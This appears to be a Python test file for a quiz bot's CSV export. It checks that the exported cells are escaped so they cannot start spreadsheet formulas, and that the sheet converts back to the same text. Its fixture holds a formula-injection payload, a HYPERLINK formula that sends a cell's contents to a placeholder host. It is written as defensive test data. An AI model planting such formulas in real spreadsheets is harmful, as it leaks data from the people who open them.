"""`pack export --format csv` is opened in a spreadsheet: no cell may start a formula there.

A pack loaded from a chat is written by someone the operator may not know; a prompt, option or
hint starting with `=`, `+`, `-` or `@` became a live formula in the operator's sheet. Such a
cell is written with a leading `'` (as the report's CSV does), and converting the sheet back
reads it without the `'`, so the round trip still gives the same text.
"""

from __future__ import annotations

import csv
import io

from bot.core.convert import convert_bytes, export_pack
from bot.core.packs import load_bytes

PACK = """\
pack: sheet
title: Sheet
version: 1
questions:
  - id: link
    type: choice
    prompt: '=HYPERLINK("http://example.invalid/?"&A1,"Click")'
    hint: '@SUM(1,2)'
    choices:
      - {text: '+1 more', correct: true}
      - {text: '-> left'}
  - id: minus
    type: short
    prompt: '-2 + 1 = ?'
    accept: ['-1']
"""


def test_no_cell_of_an_exported_sheet_starts_a_formula() -> None:
    pack = load_bytes("p.yaml", PACK.encode()).pack
    text = export_pack(pack, "csv").text
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert [c for c in cells if c[:1] in ("=", "+", "@") or (c.startswith("-") and c != "-1")] == []
    assert "-1" in cells  # a number stays a number


def test_the_sheet_converts_back_to_the_same_text() -> None:
    pack = load_bytes("p.yaml", PACK.encode()).pack
    back = convert_bytes("sheet.csv", export_pack(pack, "csv").text.encode(), pack_id="sheet", title="Sheet")
    assert back.loaded is not None, back.report_lines()
    again = back.loaded.pack
    link, minus = again.questions
    assert link.prompt == pack.questions[0].prompt and link.hint == "@SUM(1,2)"
    assert [c.text for c in link.choices] == ["+1 more", "-> left"]  # type: ignore[union-attr]
    assert minus.prompt == "-2 + 1 = ?" and minus.accept == ["-1"]  # type: ignore[union-attr]
